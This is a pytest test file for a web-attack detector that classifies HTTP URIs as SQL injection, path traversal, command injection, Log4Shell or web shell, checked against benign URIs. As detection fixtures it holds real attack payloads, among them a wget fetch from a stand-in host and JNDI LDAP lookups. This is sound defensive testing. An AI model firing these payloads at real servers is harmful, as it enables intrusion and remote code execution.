"""Signature classes in HTTP hints are web attacks; ordinary URIs are not."""

from __future__ import annotations

import json

import pytest

from finsa.detectors.webattack import WebAttackDetector, classify


def run(detector, batches):
    return [a for b in batches for a in detector.process(b)]


@pytest.mark.parametrize("uri,expected", [
    ("/x?id=1%27%20or%201=1--", "sql_injection"), ("/x?id=1 AND SLEEP(5)", "sql_injection"),
    ("/x?id=1%2527%2520UNION%2520SELECT%2520pass", "sql_injection"), ("/q?t=information_schema.tables", "sql_injection"),
    ("/..%2f..%2f..%2fetc%2fpasswd", "path_traversal"), ("/%2e%2e/%2e%2e/windows/win.ini", "path_traversal"),
    ("/cgi?c=|wget%20http://e.example/a", "cmd_injection"), ("/x?c=$(id)", "cmd_injection"),
    ("/${jndi:ldap://e.example/a}", "log4shell"), ("/x?a=%24%7B%24%7Blower:j%7Dndi:ldap://e%7D", "log4shell"),
    ("/properties_view.php?editid1=2 and substring(@@version,1,1)=5", "sql_injection"),
    ("/item.php?id=7%20and%20ascii(mid(user(),1,1))%3E64", "sql_injection"), ("/p?id=5 and 1=1--", "sql_injection"),
    ("/p?name=a' and 'x'='x", "sql_injection"), ("/p?name=x%27%20%2B%20%27y", "sql_injection"),
    ("/p?id=%25252527%252520or%2525201=1--", "sql_injection"), ("/uploads/c99.php?act=ls", "web_shell"),
    ("/img/up.aspx?cmd=whoami", "web_shell"),
])
def test_attack_classes_are_recognised(uri: str, expected: str) -> None:
    assert classify("GET", uri)[0] == expected


@pytest.mark.parametrize("uri", [
    "/search?q=union+station+chicago", "/news/2024/05/sleep-well", "/api/v1/accounts?id=123&sort=desc",
    "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D", "/search?q=cat+food", "/?q=%24(price)", "/a?x=1&id&y=2",
    "/login?next=%2Fdashboard", "/select/from/where", "/docs/a..b.html",
    "/api/items?filter=price%3E10%20and%20qty%3C5", "/books?title=rock+and+roll", "/q?expr=1+2", "/shop/command.html",
    "/search?q=C+%2B+%2B", "/p?order=price+desc", "/report?year=2024&and=1",
])
def test_ordinary_uris_are_not_attacks(uri: str) -> None:
    assert classify("GET", uri) == []


def test_attacker_is_alerted_once_per_window_amid_benign(synth) -> None:
    t0 = synth.T0_MS
    uris = ["/x?id=1%27%20or%201=1--", "/${jndi:ldap://e.example/a}", "/..%2f..%2fetc%2fpasswd"]
    batches = synth.batches(synth.benign_hinted(20_000, duration_ms=300_000),
                            synth.web_attack("203.0.113.99", "10.1.100.80", uris * 4, t0 + 30_000), batch_rows=500)
    alerts = run(WebAttackDetector(), batches)
    assert [(a["entity"], a["target"], a["technique"]) for a in alerts] == [("203.0.113.99", "10.1.100.80:80", "T1190")]


def test_the_worst_class_of_a_batch_sets_severity_and_evidence(synth) -> None:
    uris = ["/x?id=1%27%20or%201=1--", "/${jndi:ldap://e.example/a}", "/..%2f..%2fetc%2fpasswd"]
    alerts = run(WebAttackDetector(), synth.batches(synth.web_attack("203.0.113.99", "10.1.100.80", uris, synth.T0_MS)))
    feats = json.loads(alerts[0]["evidence"])["features"]
    assert alerts[0]["severity"] == 5 and feats["class"] == "log4shell" and feats["uri"].startswith("/${jndi")
    assert feats["matches"] == {"sql_injection": 1, "log4shell": 1, "path_traversal": 1}


def test_evidence_uri_is_truncated(synth) -> None:
    cols = synth.web_attack("203.0.113.99", "10.1.100.80", ["/x?id=1%20union%20select%201" + "A" * 5_000], synth.T0_MS)
    alerts = run(WebAttackDetector(), synth.batches(cols))
    assert len(json.loads(alerts[0]["evidence"])["features"]["uri"]) == 200


def test_benign_web_traffic_gives_no_alert(synth) -> None:
    batches = synth.batches(synth.benign_hinted(40_000, duration_ms=600_000), batch_rows=1_000)
    assert run(WebAttackDetector(), batches) == []


def test_every_request_of_a_flow_is_read() -> None:
    """The injection is the third request of a keep-alive flow (FLOW v2's http_requests)."""
    from finsa.detectors.webattack import WebAttackDetector
    from finsa.wire import FLOW
    reqs = "\n".join(["GET\tshop.example\t/\t200\ttext/html", "GET\tshop.example\t/img/a.png\t200\timage/png",
                      "GET\tshop.example\t/p.php?id=2 and substring(@@version,1,1)=5\t200\ttext/html"])
    b = FLOW.make_batch({"src_ip": ["117.195.143.198"], "dst_ip": ["64.79.208.124"], "dst_port": [80], "protocol": [6],
                         "http_method": ["GET"], "http_uri": ["/"], "http_host": ["shop.example"], "http_requests": [reqs],
                         "first_seen_ms": [1_000], "last_seen_ms": [2_000], "flow_id": [1], "institution_id": ["bank-a"]})
    (alert,) = WebAttackDetector().process(b)
    assert alert["entity"] == "117.195.143.198" and "@@version" in alert["evidence"]
